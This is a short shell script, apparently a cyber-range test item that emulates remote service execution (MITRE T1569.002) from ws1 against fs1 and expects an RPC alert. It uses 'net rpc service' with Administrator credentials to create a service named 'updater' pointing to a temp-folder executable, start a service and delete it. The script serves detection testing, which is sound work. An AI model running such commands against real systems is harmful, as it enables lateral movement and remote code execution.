# SPDX-License-Identifier: Apache-2.0
# what: a service of fs1 made and started with net rpc; Samba refuses
# technique: T1569.002
# from: ws1
# to: fs1
# account: Administrator
# outcome: attempt
# must: alert rpc
. "$RANGE_HERE/item.sh"
n() { timeout 20 net rpc service "$@" -S $fs1 -U "Administrator%$ADMIN_PASSWORD"; }
n list
n create updater Updater 'C:\\Windows\\Temp\\svc.exe'
n start Spooler
n delete updater
true
